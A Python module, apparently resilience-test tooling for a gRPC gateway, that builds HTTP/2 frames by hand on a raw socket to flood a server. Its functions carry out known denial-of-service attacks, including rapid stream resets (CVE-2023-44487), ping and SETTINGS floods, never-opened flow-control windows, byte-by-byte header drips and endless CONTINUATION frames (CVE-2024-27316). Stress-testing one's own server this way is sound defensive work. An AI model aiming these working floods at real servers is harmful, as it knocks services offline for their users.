"""HTTP/2 by hand, as far as it takes to misuse it: frames on a plain socket.

Floods that a library would not send: streams begun and reset at once, pings without end, a window
that is never opened, headers that drip.
"""

from __future__ import annotations

import socket
import struct
from collections.abc import Callable, Iterator
from typing import Self

from gateway.pb.post import post_pb2

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
INITIAL_WINDOW = 4  # a setting
CANCEL = struct.pack(">I", 8)
WITHIN_S = 5.0


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def header(name: bytes, value: bytes) -> bytes:
    """A literal that is not to be remembered (RFC 7541, 6.2.2)."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


ASKED = b"".join(
    header(name, value)
    for name, value in (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", b"/post.PostService/PublishPost"),
        (b":authority", b"hark"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    )
)
_POST = post_pb2.Post(authorId="nobody", content="x").SerializeToString()
MESSAGE = b"\0" + struct.pack(">I", len(_POST)) + _POST


class RawHttp2:
    """A connection that has said hello, and says then whatever it is told."""

    def __init__(self, address: str, settings: bytes = b"") -> None:
        host, _, port = address.rpartition(":")
        self.socket = socket.create_connection((host, int(port)), WITHIN_S)
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_: object) -> None:
        self.socket.close()

    def send(self, data: bytes) -> bool:
        """False where the other side has let go of the connection."""
        try:
            self.socket.sendall(data)
        except (ConnectionError, TimeoutError):
            return False
        return True


def rapid_resets(address: str, count: int) -> Iterator[None]:
    """Calls that are taken back before they can be answered (CVE-2023-44487)."""
    with RawHttp2(address) as one:
        for stream in range(1, 2 * count, 2):
            begun = frame(HEADERS, END_HEADERS, stream, ASKED)
            if not one.send(begun + frame(RST_STREAM, 0, stream, CANCEL)):
                return
            yield


def pings(address: str, count: int) -> Iterator[None]:
    with RawHttp2(address) as one:
        for number in range(count):
            if not one.send(frame(PING, 0, 0, struct.pack(">Q", number))):
                return
            yield


def settings_without_end(address: str, count: int) -> Iterator[None]:
    """Each wants an answer."""
    with RawHttp2(address) as one:
        for _ in range(count):
            if not one.send(frame(SETTINGS, 0, 0)):
                return
            yield


def closed_windows(address: str, count: int) -> Iterator[None]:
    """Calls whose answers are never taken: nobody opens the window for them."""
    with RawHttp2(address, struct.pack(">HI", INITIAL_WINDOW, 0)) as one:
        for stream in range(1, 2 * count, 2):
            whole = frame(HEADERS, END_HEADERS, stream, ASKED)
            if not one.send(whole + frame(DATA, END_STREAM, stream, MESSAGE)):
                return
            yield


def slow_headers(address: str, count: int) -> Iterator[None]:
    """Headers that come byte by byte and never end, on one connection after the other."""
    block = ASKED + header(b"x-slow", b"x" * 100)
    connections: list[RawHttp2] = []
    try:
        for number in range(count):
            if number % len(block) == 0:
                connections.append(RawHttp2(address))
                connections[-1].send(frame(HEADERS, 0, 1, block[:1]))
            at = number % len(block)
            connections[-1].send(frame(CONTINUATION, 0, 1, block[at + 1 : at + 2]))
            yield
    finally:
        for one in connections:
            one.socket.close()


def endless_headers(address: str, count: int) -> Iterator[None]:
    """One block of headers that goes on for ever (CVE-2024-27316)."""
    with RawHttp2(address) as one:
        one.send(frame(HEADERS, 0, 1, ASKED))
        more = header(b"x-more", b"x" * 100) * 50
        for _ in range(count):
            if not one.send(frame(CONTINUATION, 0, 1, more)):
                return
            yield


FLOODS: dict[str, tuple[Callable[[str, int], Iterator[None]], int]] = {
    "rapid resets": (rapid_resets, 10_000),
    "pings": (pings, 10_000),
    "settings": (settings_without_end, 10_000),
    "closed windows": (closed_windows, 2_000),
    "slow headers": (slow_headers, 2_000),
    "endless headers": (endless_headers, 2_000),
}
